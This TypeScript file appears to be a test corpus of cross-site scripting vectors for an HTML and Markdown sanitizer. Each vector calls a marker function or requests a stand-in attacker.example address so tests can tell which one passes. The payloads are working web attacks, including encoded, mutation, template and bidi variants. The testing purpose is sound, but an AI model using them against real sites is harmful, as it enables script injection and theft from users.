/**
 * Text that runs a script, or asks another site for a file, on a page that lets it through. Each vector calls
 * `__xss(ID)` with its own number, or asks `https://attacker.example/ID`, so that a test can tell which one got through.
 */
export interface Vector {
  /** Its place in the list. */
  id: number;
  /** The kind of hole that it looks for. */
  class: string;
  text: string;
  /** The press refuses it, for it holds a control character or a bidi override. */
  refused?: true;
}

/** A vector before it has its number: `call` is a script that tells of it, `host` an address that does. */
type Recipe = (call: string, host: string) => string;

const base64 = (text: string) => Buffer.from(text).toString("base64");
const codes = (text: string) => [...text].map((character) => character.charCodeAt(0)).join(",");
const decimal = (text: string) => [...text].map((character) => `&#${character.charCodeAt(0)};`).join("");
const hexadecimal = (text: string) =>
  [...text].map((character) => `&#x${character.charCodeAt(0).toString(16)};`).join("");
const percent = (text: string) =>
  [...text].map((character) => `%${character.charCodeAt(0).toString(16)}`).join("");
/** The letters and signs of ASCII as their full-width forms, which some programs fold back. */
const wide = (text: string) =>
  text.replace(/[!-~]/g, (character) => String.fromCharCode(character.charCodeAt(0) + 0xfee0));

const recipes: Record<string, readonly Recipe[]> = {
  tags: [
    (call) => `<script>${call}</script>`,
    (call) => `<ScRiPt >${call}</sCrIpT >`,
    (call) => `<script/x>${call}</script>`,
    (call) => `<script type="module">${call}</script>`,
    (call) => `<script src="data:text/javascript,${call}"></script>`,
    (call) => `<script>${call}//`,
    (call) => `"><script>${call}</script>`,
    (call) => `'><script>${call}</script>`,
    (call) => `--><script>${call}</script><!--`,
    (call) => `</title><script>${call}</script>`,
    (call) => `</textarea><script>${call}</script>`,
    (call) => `</a></p></section></article></main></body><script>${call}</script>`,
    (call) => `</noscript></template></svg></math><script>${call}</script>`,
    (call) => `<svg><script>${call}</script></svg>`,
    (call) => `<svg><a><script>${call}</script></a></svg>`,
    (call) => `<math><mtext><script>${call}</script></mtext></math>`,
    (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
    (call) => `<object data="javascript:parent.${call}"></object>`,
    (call) => `<embed src="javascript:parent.${call}">`,
    (call) => `<form action="javascript:${call}"><input type="submit" id="go"></form>`,
    (call) => `<button form="f" formaction="javascript:${call}">x</button><form id="f"></form>`,
    (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
    (call) => `<base href="javascript:${call}//"><a href="x">x</a>`,
    (call) => `<script language="JScript">${call}</script>`,
    (call) => `<<script>${call}</script>`,
    (call) => `<a><b><i><script>${call}</script>`,
    (_, host) => `<script src="${host}"></script>`,
    (_, host) => `<iframe src="${host}"></iframe>`,
    (_, host) => `<link rel="stylesheet" href="${host}">`,
  ],
  handlers: [
    (call) => `<img src=x onerror=${call}>`,
    (call) => `<img src="x" onerror="${call}">`,
    (call) => `<IMG SRC=x OnErRoR=${call}>`,
    (call) => `<img/src=x/onerror=${call}>`,
    (call) => `<img src=x onerror=${call}//`,
    (call) => `<image href=x onerror=${call}>`,
    (call) => `"><img src=x onerror=${call}>`,
    (call) => `<svg onload=${call}>`,
    (call) => `<svg/onload=${call}>`,
    (call) => `<svg><animate attributeName=x dur=1s onbegin=${call}>`,
    (call) => `<svg><image href=x onerror=${call}></svg>`,
    (call) => `<body onload=${call}>`,
    (call) => `<body onpageshow=${call}>`,
    (call) => `<details open ontoggle=${call}>x</details>`,
    (call) => `<input autofocus onfocus=${call}>`,
    (call) => `<button autofocus onfocus=${call}>x</button>`,
    (call) => `<a href="x" onclick="${call}">x</a>`,
    (call) => `<b onmouseover="${call}">x</b>`,
    (call) => `<video src=x onerror=${call}></video>`,
    (call) => `<video><source src=x onerror=${call}></video>`,
    (call) => `<audio src=x onerror=${call}></audio>`,
    (call) => `<style onload=${call}></style>`,
    (call) => `<iframe onload=${call}></iframe>`,
    (call) => `<link rel=stylesheet href=x onerror=${call}>`,
    (call) => `<script src=x onerror=${call}></script>`,
    (call) => `<object data=x onerror=${call}></object>`,
    (call) => `<p tabindex=1 autofocus onfocus=${call}>x</p>`,
    (call) => `" onmouseover="${call}" title="`,
    (call) => `' onmouseover='${call}' title='`,
    (call) => `" autofocus tabindex="1" onfocus="${call}`,
    (call) => `x onmouseover=${call} `,
    (call) => `"onmouseover="${call}`,
  ],
  schemes: [
    (call) => `javascript:${call}`,
    (call) => `JaVaScRiPt:${call}`,
    (call) => `javascript://example.org/%0a${call}`,
    (call) => `javascript:/*--></title></style></textarea></script><svg/onload=${call}>*/${call}`,
    (call) => `javascript&colon;${call}`,
    (call) => `java&Tab;script:${call}`,
    (call) => `java&NewLine;script:${call}`,
    (call) => `&#106;avascript:${call}`,
    (call) => `view-source:javascript:${call}`,
    (call) => `feed:javascript:${call}`,
    (call) => `vbscript:${call}`,
    (call) => `data:text/html,<script>parent.${call}</script>`,
    (call) => `data:text/html;base64,${base64(`<script>parent.${call}</script>`)}`,
    (call) => `<a href="javascript:${call}">x</a>`,
    (call) => `<a href="&#x6a;avascript:${call}">x</a>`,
    (call) => `<a href="java&Tab;script:${call}">x</a>`,
    (call) => `<a href=" javascript:${call}">x</a>`,
    (call) => `<svg><a href="javascript:${call}"><text y="20">x</text></a></svg>`,
    (call) => `<svg><a xlink:href="javascript:${call}"><text y="20">x</text></a></svg>`,
    (call) => `<area href="javascript:${call}" shape="default">`,
  ],
  markdown: [
    (call) => `[x](javascript:${call})`,
    (call) => `[x](JAVASCRIPT:${call})`,
    (call) => `[x](<javascript:${call}>)`,
    (call) => `[x](javascript&colon;${call})`,
    (call) => `[x](java&#115;cript:${call})`,
    (call) => `[x](java\\script:${call})`,
    (call) => `[x](data:text/html;base64,${base64(`<script>parent.${call}</script>`)})`,
    (call) => `[x](vbscript:${call})`,
    (call) => `[x](https://example.net/ "" onmouseover="${call}")`,
    (call) => `[x](https://example.net/" onmouseover="${call})`,
    (call) => `[x](https://example.net/ '"onmouseover=${call} ')`,
    (call) => `[x](<https://example.net/"onmouseover="${call}>)`,
    (call) => `[<img src=x onerror=${call}>](https://example.net/)`,
    (call) => `[x][<script>${call}</script>]`,
    (call) => `<javascript:${call}>`,
    (call) => `<https://example.net/"onmouseover="${call}>`,
    (call) => `<x@example.org"onmouseover="${call}>`,
    (call) => `**<img src=x onerror=${call}>**`,
    (call) => `# <svg onload=${call}>`,
    (call) => `> <script>${call}</script>`,
    (call) => `- <script>${call}</script>`,
    (call) => `\`<script>${call}</script>\``,
    (call) => `    <script>${call}</script>`,
    (call) => `\\<script>${call}\\</script>`,
    (call) => `~~~"><script>${call}</script>`,
    (call) => `|<script>${call}</script>|x|`,
    (call) => `[x]: javascript:${call}`,
  ],
  entities: [
    (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
    (call) => `&LT;script&GT;${call}&LT;/script&GT;`,
    (call) => `&ltscript&gt${call}&lt/script&gt`,
    (call) => `&#60;script&#62;${call}&#60;/script&#62;`,
    (call) => `&#x3c;script&#x3e;${call}&#x3c;/script&#x3e;`,
    (call) => `&#0000060script&#0000062${call}&#0000060/script&#0000062`,
    (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
    (call) => `&#x26;lt;img src=x onerror=${call}&#x26;gt;`,
    (call) => `&quot;&gt;&lt;svg onload=${call}&gt;`,
    (call) => `&#34; onmouseover=&#34;${call}`,
    (call) => `&apos; onmouseover=&apos;${call}`,
    (call) => `<img src=x onerror="${decimal(call)}">`,
    (call) => `<img src=x onerror="${hexadecimal(call)}">`,
    (call) => decimal(`<script>${call}</script>`),
  ],
  encodings: [
    (call) => `%3Cscript%3E${call}%3C/script%3E`,
    (call) => percent(`<script>${call}</script>`),
    (call) => `%253Cscript%253E${call}%253C/script%253E`,
    (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
    (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
    (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
    (call) => wide(`<script>${call}</script>`),
    (call) => `\u2039script\u203a${call}\u2039/script\u203a`,
    (call) => `\u02c2img src=x onerror=${call}\u02c3`,
    (call) => `<\u017fcript>${call}</\u017fcript>`,
    (call) => `<scr\u0131pt>${call}</scr\u0131pt>`,
    (call) => `<img\u00a0src=x onerror=${call}>`,
    (call) => `<img src=x\u2028onerror=${call}>`,
    (call) => `<\ufeffscript>${call}</script>`,
    (call) => `<scr\u200dipt>${call}</script>`,
    (call) => `<s\u00adcript>${call}</script>`,
    (call) => `<svg onload=eval(atob('${base64(call)}'))>`,
    (call) => `<svg onload=eval(String.fromCharCode(${codes(call)}))>`,
    (call) => `<svg onload=\\u005f${call.slice(1)}>`,
    (call) => `<svg onload="top['__x'+'ss']${call.slice(5)}">`,
    (call) => `<svg onload=top[/__xss/.source]${call.slice(5)}>`,
    (call) => `<svg onload=Function('${call}')()>`,
  ],
  templates: [
    (call) => `{{constructor.constructor('${call}')()}}`,
    (call) => `{{ "<script>${call}</script>" | safe }}`,
    (call) => `{{{ <script>${call}</script> }}}`,
    (call) => `{% raw %}<script>${call}</script>{% endraw %}`,
    (call) => `{%- set x = cycler.constructor("${call}") -%}{{ x() }}`,
    (call) => `{{ ''.constructor.constructor("globalThis.${call}")() }}`,
    (call) => `<%= ${call} %><%- ${call} %>`,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a vector of this class looks like
    (call) => "${CALL}".replace("CALL", call),
    (call) => `#{${call}}@{${call}}[[${call}]]`,
    (call) => `<div ng-app ng-csp>{{$eval.constructor('${call}')()}}</div>`,
    (call) => `<div x-data x-init="${call}"></div>`,
    (call) => `$'<script>${call}</script>`,
    (call) => `$&<script>${call}</script>$\``,
    (call) => `\${"<script>${call}</script>"}`,
    (call) => `{{#with "s" as |s|}}{{lookup s.constructor "${call}"}}{{/with}}`,
  ],
  mutation: [
    (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    (call) => `<style><img title="</style><img src=x onerror=${call}>">`,
    (call) => `<textarea><img title="</textarea><img src=x onerror=${call}>">`,
    (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
    (call) => `<iframe><p title="</iframe><img src=x onerror=${call}>">`,
    (call) => `<noembed><p title="</noembed><img src=x onerror=${call}>">`,
    (call) => `<noframes><p title="</noframes><img src=x onerror=${call}>">`,
    (call) => `<title><p title="</title><img src=x onerror=${call}>">`,
    (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
    (call) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}></style></mglyph></form>`,
    (call) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
    (call) => `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
    (call) => `<svg><![CDATA[><img src=x onerror=${call}>]]></svg>`,
    (call) => `<select><template><style></select><img src=x onerror=${call}></style>`,
    (call) => `<table><td><script>${call}</script>`,
    (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
    (call) => `<!--><img src=x onerror=${call}>-->`,
    (call) => `<!--x--!><img src=x onerror=${call}>`,
    (call) => `<!-><img src=x onerror=${call}>`,
    (call) => `<?x ><img src=x onerror=${call}>?>`,
    (call) => `</x <img src=x onerror=${call}>`,
    (call) => `<a title="\`"><img src=x onerror=${call}>\`</a>`,
    (call) => `<div><plaintext></div><img src=x onerror=${call}>`,
  ],
  "json-ld": [
    (call) => `</script><script>${call}</script>`,
    (call) => `</SCRIPT ><img src=x onerror=${call}>`,
    (call) => `</script/><svg onload=${call}>`,
    (call) => `","x":"</script><script>${call}</script>`,
    (call) => `\\"</script><script>${call}</script>`,
    (call) => `"}</script><script>${call}</script>`,
    (call) => `<!--<script></script><script>${call}</script>-->`,
    (call) => `<!--<script></script>--></script><script>${call}</script>`,
    (call) => `]]></script><script>${call}</script>`,
    (call) => `\\u003c/script><script>${call}</script>`,
    (call) => `\u2028</script><script>${call}</script>\u2029`,
    (call) => `\\</script><script>${call}</script>`,
  ],
  css: [
    (call) => `</style><img src=x onerror=${call}>`,
    (call) => `</style><script>${call}</script><style>`,
    (_, host) => `<style>*{background:url("${host}")}</style>`,
    (_, host) => `<style>@import "${host}";</style>`,
    (_, host) => `<b style="background:url(${host})">x</b>`,
    (_, host) => `" style="background:url(${host})" title="`,
    (_, host) => `}*{background:url(${host})}`,
    (_, host) => `<svg><style>*{background:url(${host})}</style></svg>`,
    (call) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${call}">x</b>`,
    (call) => `<b style="width:expression(${call})">x</b>`,
    (call) => `<style>*{background:url("javascript:${call}")}</style>`,
    (_, host) => `<img src="${host}">`,
  ],
  bidi: [
    (call) => `\u200f<svg onload=${call}>\u200e`,
    (call) => `\u061c"><script>${call}</script>`,
    (call) => `\u2067"> \u0645\u2069<img src=x onerror=${call}>`,
  ],
};

/** Control characters and bidi overrides, by which a browser or a reader takes text for other than it is. */
const refusedRecipes: Record<string, readonly Recipe[]> = {
  encodings: [
    (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`,
    (call) => `<img\u000csrc=x\u000conerror=${call}>`,
    (call) => `\u0001javascript:${call}`,
    (call) => `java\u0008script:${call}`,
    (call) => `\u001b]0;<script>${call}</script>\u0007`,
    (call) => `\u009c<script>${call}</script>`,
  ],
  bidi: [
    (call) => `\u202e<script>${call}</script>`,
    (call) => `\u202d"><img src=x onerror=${call}>`,
    (call) => `x\u202e">\u202c<svg onload=${call}>`,
    (call) => `\u202b<img src=x onerror=${call}>\u202c`,
    (call) => `\u2066<script>${call}</script>\u2069`,
    (call) => `\u2067">\u2069<img src=x onerror=${call}>`,
    (call) => `\u2067<script>${call}</script>`,
  ],
};

const numbered: [string, Recipe, boolean][] = [
  ...list(recipes).map(([kind, recipe]): [string, Recipe, boolean] => [kind, recipe, false]),
  ...list(refusedRecipes).map(([kind, recipe]): [string, Recipe, boolean] => [kind, recipe, true]),
];

function list(of: Record<string, readonly Recipe[]>): [string, Recipe][] {
  return Object.entries(of).flatMap(([kind, all]) => all.map((recipe): [string, Recipe] => [kind, recipe]));
}

/** Every vector, those that the press refuses last. */
export const vectors: readonly Vector[] = numbered.map(([kind, recipe, refused], id) => ({
  id,
  class: kind,
  text: recipe(`__xss(${id})`, `https://attacker.example/${id}`),
  ...(refused ? { refused: true } : {}),
}));
